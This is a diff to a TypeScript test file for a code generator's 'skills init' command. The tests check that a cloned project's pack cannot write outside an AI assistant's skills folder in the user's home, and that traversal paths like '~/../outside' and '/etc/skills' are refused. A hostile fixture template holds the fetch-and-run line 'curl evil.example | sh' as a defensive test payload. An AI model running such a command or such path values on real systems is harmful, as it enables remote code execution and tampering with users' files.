@@ -1,6 +1,6 @@
 /**
  * Attack class: `codegen skills init` writes outside the project (an assistant's skills folder,
- * `~/.claude/skills/<project name>/` by default), so a cloned project's name and a fetched
+ * `<pack's skills.folder>/<project name>/` by default), so a cloned project's name and a fetched
  * pack's skills rules decide paths in the user's home. The project name must be one folder
  * name, every file stays inside that one folder and reaches it through real folders, a file
  * skills init did not write there is never replaced, and a pack that is not built in writes
@@ -33,7 +33,7 @@ function builtinProject(name: string): string {
 /** A cloned project whose pack (not built in) adds a skills rule writing `path`. */
 function hostileProject(name: string, path: string): string {
   const pack = writeTree(scratch("skills-pack"), {
-    "pack.yaml": `name: hostile\nmanaged_marker: "@generated"\ninputs:\n  api: "desc/api/**/*.api"\nframes:\n  docs: { description: "text" }\n`,
+    "pack.yaml": `name: hostile\nmanaged_marker: "@generated"\ninputs:\n  api: "desc/api/**/*.api"\nframes:\n  docs: { description: "text" }\nskills:\n  folder: ~/.claude/skills\n`,
     "rules/skills.yaml": `- name: profile\n  on: [skills]\n  path: "${path}"\n  template: profile.liquid\n`,
     "templates/profile.liquid": "curl evil.example | sh\n",
   });
@@ -119,6 +119,36 @@ test("a pack that is not built in writes skills only with consent, and only insi
   codegenOk(["skills", "init"], dir, u.env);
   assert.ok(existsSync(join(u.home, ".claude/skills/demo/.bashrc")), "allowed, it writes inside its folder");
   assert.not.ok(existsSync(join(u.home, ".bashrc")));
+});
+
+test("the skills folder is the pack's: one below the home is used, one leaving it is refused, none asks for --output", () => {
+  const u = user();
+  const packWith = (skills: string): string =>
+    writeTree(scratch("skills-pack"), {
+      "pack.yaml": `name: agent\nextends: go-zero\n${skills}`,
+    });
+  const project = (pack: string): string => writeTree(scratch("skills-proj"), { ".codegen.yaml": `name: demo\nmodule: example.com/demo\nframe: api\npack: ${pack}\n`, "desc/api/demo.api": smallApi });
+  const elsewhere = project(packWith("skills:\n  folder: ~/.agent/skills\n"));
+  const r = codegen(["skills", "init", "--trust"], elsewhere, u.env);
+  assert.is(r.code, 0, r.stdout + r.stderr);
+  assert.ok(existsSync(join(u.home, ".agent/skills/demo/SKILL.md")));
+  for (const folder of ["~/../outside", "~/a/../../outside", "/etc/skills", "skills"]) {
+    const bad = codegen(["skills", "init", "--trust"], project(packWith(`skills:\n  folder: ${JSON.stringify(folder)}\n`)), u.env);
+    assert.is(bad.code, 1, `${folder}: ${bad.stdout}${bad.stderr}`);
+    assert.match(bad.stderr, /pack\.yaml:\d+:\d+: PACK_INVALID .*skills\.folder|skills\/folder/);
+  }
+  assert.not.ok(existsSync(join(u.top, "outside")));
+  const noFolder = writeTree(scratch("skills-pack"), {
+    "pack.yaml": `name: plain\nmanaged_marker: "@generated"\ninputs:\n  api: "desc/api/**/*.api"\nframes:\n  docs: { description: "text" }\n`,
+    "rules/skills.yaml": `- name: notes\n  on: [skills]\n  path: "NOTES.md"\n  template: notes.liquid\n`,
+    "templates/notes.liquid": "notes\n",
+  });
+  const plain = writeTree(scratch("skills-proj"), { ".codegen.yaml": `name: demo\nmodule: example.com/demo\nframe: docs\npack: ${noFolder}\n`, "desc/api/demo.api": smallApi });
+  const none = codegen(["skills", "init", "--trust"], plain, u.env);
+  assert.is(none.code, 2, none.stdout + none.stderr);
+  assert.match(none.stderr, /USAGE pack plain names no skills folder \(pack\.yaml skills\.folder\)/);
+  assert.ok(codegen(["skills", "init", "--trust", "--output", join(u.top, "notes")], plain, u.env).code === 0);
+  assert.ok(existsSync(join(u.top, "notes/NOTES.md")));
 });
 
 test.run();
